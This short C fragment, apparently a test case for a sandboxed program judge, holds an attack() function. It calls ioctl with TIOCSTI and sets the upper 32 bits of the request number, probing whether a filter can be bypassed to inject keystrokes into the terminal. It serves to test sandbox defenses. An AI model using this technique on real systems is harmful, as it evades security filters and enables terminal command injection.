// Types at its own terminal (TIOCSTI) with the upper half of the request set, which the kernel throws
// away.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

static int attack(void)
{
    int worked = 0;
    for (int bit = 32; bit < 64; bit++)
        worked |= syscall(SYS_ioctl, 0, 0x5412UL /* TIOCSTI */ | 1UL << bit, "7") == 0;
    return worked;
}

// The rest is a right program.
//+ print_deck.c main_attacked_first.c
